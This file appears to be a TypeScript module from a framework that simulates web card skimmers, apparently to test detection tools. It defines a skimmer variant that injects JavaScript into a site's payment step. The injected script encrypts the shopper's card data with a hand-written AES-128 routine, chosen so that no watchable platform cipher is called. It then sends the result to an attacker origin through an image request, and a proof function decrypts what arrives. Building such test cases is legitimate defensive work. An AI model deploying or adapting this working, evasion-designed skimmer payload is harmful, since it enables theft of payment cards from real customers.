import { createDecipheriv } from 'node:crypto';
import { holds, js, skimmer } from '../behaviour.ts';
import { query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

const KEY = Buffer.from('f1d2c3b4a59687786950413223140506', 'hex');

export default skimmer({
  id: 'aes-js',
  why: 'AES-128 written in JavaScript, block by block: no platform cipher is called that could be watched.',
  covers: ['encoding: AES', 'cipher: any', 'sending: image'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(js`
    var x2 = function (a) { return ((a << 1) ^ (a & 128 ? 27 : 0)) & 255; };
    var S = [], p = 1, q = 1;
    do {
      p = p ^ x2(p);
      q ^= q << 1; q ^= q << 2; q ^= q << 4; q &= 255; if (q & 128) q ^= 9;
      S[p] = (q ^ (q << 1 | q >> 7) ^ (q << 2 | q >> 6) ^ (q << 3 | q >> 5) ^ (q << 4 | q >> 4)) & 255 ^ 99;
    } while (p !== 1);
    S[0] = 99;
    var w = '${KEY.toString('hex')}'.match(/../g).map(function (h) { return parseInt(h, 16); });
    for (var i = 16, rc = 1; i < 176; i += 4) {
      var t = w.slice(i - 4, i);
      if (i % 16 === 0) { t = [S[t[1]] ^ rc, S[t[2]], S[t[3]], S[t[0]]]; rc = x2(rc); }
      for (var k = 0; k < 4; k++) w[i + k] = w[i + k - 16] ^ t[k];
    }
    var block = function (s) {
      s = s.map(function (b, i) { return b ^ w[i]; });
      for (var r = 1; r < 11; r++) {
        s = s.map(function (_, i) { return S[s[(i * 5) % 16]]; });
        if (r < 10) s = s.map(function (b, i) {
          var c = i & 12, a = [0, 1, 2, 3].map(function (n) { return s[c + ((i + n) & 3)]; });
          return x2(a[0]) ^ x2(a[1]) ^ a[1] ^ a[2] ^ a[3];
        });
        s = s.map(function (b, i) { return b ^ w[r * 16 + i]; });
      }
      return s;
    };
    var text = card(), out = '';
    while (text.length % 16) text += ' ';
    for (var at = 0; at < text.length; at += 16)
      out += block(Array.from(text.slice(at, at + 16)).map(function (c) { return c.charCodeAt(0) & 255; })).map(function (b) { return ('0' + b.toString(16)).slice(-2); }).join('');
    new Image().src = '${site.origins.evil}/t.gif?s=' + out;`),
    ),
  proof: holds((arrived) =>
    query(arrived, 's').map((text) => {
      const decipher = createDecipheriv('aes-128-ecb', KEY, null).setAutoPadding(false);
      return decipher.update(text, 'hex', 'latin1') + decipher.final('latin1');
    }),
  ),
});
